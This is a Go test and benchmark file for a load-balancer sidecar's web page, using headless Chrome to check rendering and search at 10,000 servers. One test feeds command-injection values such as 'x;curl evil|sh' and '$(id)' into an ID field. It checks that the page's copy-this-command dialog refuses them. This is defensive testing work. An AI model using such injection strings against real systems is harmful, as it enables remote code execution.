package page

import (
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// pageFiles are the page's, as the sidecar serves them.
const pageFiles = "../../../sidecar/internal/api/page/"

// large is a sidecar's API that tells of many servers.
type large struct {
	*httptest.Server
	state map[string]any
	news  chan string // events of the stream
}

// newLarge makes services with that number of instances each; one of the first is down.
func newLarge(t testing.TB, services, instances int) *large {
	t.Helper()
	all := make([]any, services)
	for k := range all {
		name := "api"
		if services > 1 {
			name = fmt.Sprintf("api-%d", k)
		}
		list := make([]map[string]any, instances)
		for i := range list {
			id := fmt.Sprintf("%s-%d", name, i)
			list[i] = map[string]any{
				"id": id, "node": "node", "server": id, "address": fmt.Sprintf("10.%d.%d.%d:80", k%250, i/250, i%250), "version": fmt.Sprintf("1.%d", i%2),
				"health": "passing", "phase": "up", "leaving": false, "weight": 1, "sessions": i,
			}
		}
		all[k] = map[string]any{"name": name, "backend": name, "instances": list, "rejected": []any{}, "guard": map[string]any{}}
	}
	l := &large{news: make(chan string), state: map[string]any{
		"load_balancer": "lb0", "services": all, "verdict": map[string]any{"status": "degraded", "reasons": []any{}},
		"version": "test", "haproxy": map[string]any{"running": true, "version": "3.4", "old_workers": 0}, "consul": map[string]any{}, "file": map[string]any{}, "reloads": map[string]any{"succeeded": 0, "failed": 0},
	}}
	worst := all[0].(map[string]any)["instances"].([]map[string]any)[instances*7/9]
	worst["phase"], worst["reason"] = "down", "HAProxy's check fails"
	mux := http.NewServeMux()
	mux.Handle("/ui/", http.StripPrefix("/ui/", http.FileServer(http.Dir(pageFiles))))
	mux.HandleFunc("/{$}", func(w http.ResponseWriter, r *http.Request) { http.ServeFile(w, r, pageFiles+"index.html") })
	state, err := json.Marshal(l.state)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%d services of %d servers: %d bytes of JSON", services, instances, len(state))
	mux.HandleFunc("/api/v1/state", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(state) })
	counters := make([]map[string]any, instances)
	for i := range counters {
		counters[i] = map[string]any{
			"instance": fmt.Sprintf("api-%d", i), "node": "node", "backend": "api", "server": fmt.Sprintf("api-%d", i), "version": fmt.Sprintf("1.%d", i%2),
			"up": true, "requests": 100 * i, "errors": i, "retries": 0, "response_time_ms": 5,
		}
	}
	counted, err := json.Marshal(map[string]any{"instances": counters})
	if err != nil {
		t.Fatal(err)
	}
	mux.HandleFunc("/api/v1/counters/", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(counted) })
	mux.HandleFunc("/api/v1/state/stream", func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, ":\n\n")
		for {
			_ = http.NewResponseController(w).Flush()
			select {
			case event := <-l.news:
				_, _ = io.WriteString(w, event)
			case <-r.Context().Done():
				return
			}
		}
	})
	l.Server = httptest.NewServer(mux)
	t.Cleanup(l.Close)
	return l
}

// change sends that one instance of the first service has other sessions, as the
// sidecar does: with the whole service.
func (l *large) change(t testing.TB, sessions int) {
	t.Helper()
	services := l.state["services"].([]any)
	first := services[0].(map[string]any)
	first["instances"].([]map[string]any)[0]["sessions"] = sessions
	head := maps.Clone(l.state)
	head["services"] = []any{}
	event, err := json.Marshal(map[string]any{"state": head, "services": services[:1]})
	if err != nil {
		t.Fatal(err)
	}
	select {
	case l.news <- "id: 1\ndata: " + string(event) + "\n\n":
	case <-time.After(callTimeout):
		t.Fatal("the page does not follow the state")
	}
}

// A fleet of 10,000 servers must stay usable: few rows, and an answer to each key.
func TestPage_TenThousandServers_FewRowsAndFastSearch(t *testing.T) {
	t.Parallel()
	server := newLarge(t, 1, 10000)
	b := newBrowser(t.Context(), t)
	b.do("open the service", chromedp.Navigate(server.URL+"/#/service/api"))
	b.sees("the first rows, the worst first", `/api-7777/.test(document.querySelectorAll('#view table')[1]?.tBodies[0].rows[0].innerText)`)
	if n := read[int](b, `document.querySelectorAll('tr').length`); n > 120 {
		t.Errorf("the page has %d rows at a time", n)
	}
	took := read[float64](b, `(() => {
		const begun = performance.now();
		document.getElementById('search').value = 'api-123 1.1';
		document.getElementById('search').dispatchEvent(new Event('input'));
		return performance.now() - begun;
	})()`)
	if n := read[int](b, `document.querySelectorAll('#view table')[1].tBodies[0].rows.length`); n != 6 {
		t.Errorf("the search shows %d rows, want api-123 and five of api-1230 to api-1239", n)
	}
	if limit := time.Second; took > float64(limit.Milliseconds()) {
		t.Errorf("a key took %.0f ms to show, want less than %v", took, limit)
	}
	t.Logf("a search took %.0f ms", took)
	b.do("the next page", chromedp.Navigate(server.URL+"/#/service/api?page=3"))
	b.sees("the third page", `/201–300 of 10,000/.test(document.querySelector('.pages').innerText)`)
}

// The page's dialog shows a command to copy. An ID is the registration's, and a shell
// would run what is in it.
func TestPage_CommandToCopy_NamesNoIDThatAShellReads(t *testing.T) {
	t.Parallel()
	server := newLarge(t, 1, 1)
	b := newBrowser(t.Context(), t)
	b.do("open the page", chromedp.Navigate(server.URL+"/#/"))
	read[bool](b, `import('/ui/model.js').then((m) => { window.argument = m.argument; }), true`)
	b.sees("the module", `Boolean(window.argument)`)
	for _, c := range []struct{ id, others, service, want string }{
		{`api-1`, ``, `api`, `api/api-1`},
		{`api@1.service:4000`, ``, `api`, `api/api@1.service:4000`},
		{`x;curl evil|sh`, ``, `api`, `be/s1`},
		{"x\n1", ``, `api`, `be/s1`},
		{`$(id)`, ``, `api`, `be/s1`},
		{`x y`, ``, `api`, `be/s1`},
		{``, ``, `api`, `be/s1`},
		{`twice`, `{id: "twice", server: "s2"}`, `api`, `be/s1`},
		{`s2`, `{id: "other", server: "s2"}`, `api`, `be/s1`},
		{`api-1`, ``, `a;b`, `be/s1`},
	} {
		got := read[string](b, fmt.Sprintf(`(() => { const i = {id: %q, server: "s1"}; return argument(i, {name: %q, backend: "be", instances: [i, %s]}); })()`, c.id, c.service, c.others))
		if got != c.want {
			t.Errorf("ID %q, service %q, beside %q: got %q, want %q", c.id, c.service, c.others, got, c.want)
		}
	}
}

// clock notes how long an update takes: from the moment at which the browser has all of
// it, until the page shows it and its layout is made.
const clock = `window.took = [];
(() => {
	const parse = JSON.parse;
	let begun = 0;
	JSON.parse = (text) => { begun = performance.now(); return parse(text); };
	new MutationObserver(() => {
		if (!begun) return;
		document.body.getBoundingClientRect();
		window.took.push(performance.now() - begun);
		begun = 0;
	}).observe(document.getElementById('view'), { subtree: true, childList: true, characterData: true, attributes: true });
})();
true`

// BenchmarkPage_TenThousandServers measures what a person waits for: the first paint of
// the page, the first paint with servers on it, and an update.
func BenchmarkPage_TenThousandServers(b *testing.B) {
	for _, c := range []struct {
		name                string
		services, instances int
		view                string
	}{
		{"1x10000/service", 1, 10000, "/#/service/api?q=api-0"},
		{"1x10000/overview", 1, 10000, "/#/"},
		{"1000x10/overview", 1000, 10, "/#/"},
	} {
		b.Run(c.name, func(b *testing.B) {
			server := newLarge(b, c.services, c.instances)
			page := newBrowser(b.Context(), b)
			page.do("open the page", chromedp.Navigate(server.URL+c.view))
			page.sees("a table", `document.querySelector('#view tbody tr') !== null`)
			paint := read[float64](page, `performance.getEntriesByName('first-contentful-paint')[0].startTime`)
			page.sees("the largest paint", `new PerformanceObserver((l) => { window.largest = l.getEntries().at(-1).startTime; }).observe({ type: 'largest-contentful-paint', buffered: true }), window.largest > 0`)
			largest := read[float64](page, `window.largest`)
			read[bool](page, clock)
			for i := range b.N {
				server.change(b, 100000+i)
				page.sees("the update", fmt.Sprintf(`window.took.length > %d`, i))
			}
			took := read[[]float64](page, `window.took.sort((a, b) => a - b)`)
			b.ReportMetric(paint, "first-paint-ms")
			b.ReportMetric(largest, "servers-painted-ms")
			b.ReportMetric(took[len(took)/2], "update-p50-ms")
			b.ReportMetric(took[len(took)-1], "update-max-ms")
		})
	}
}
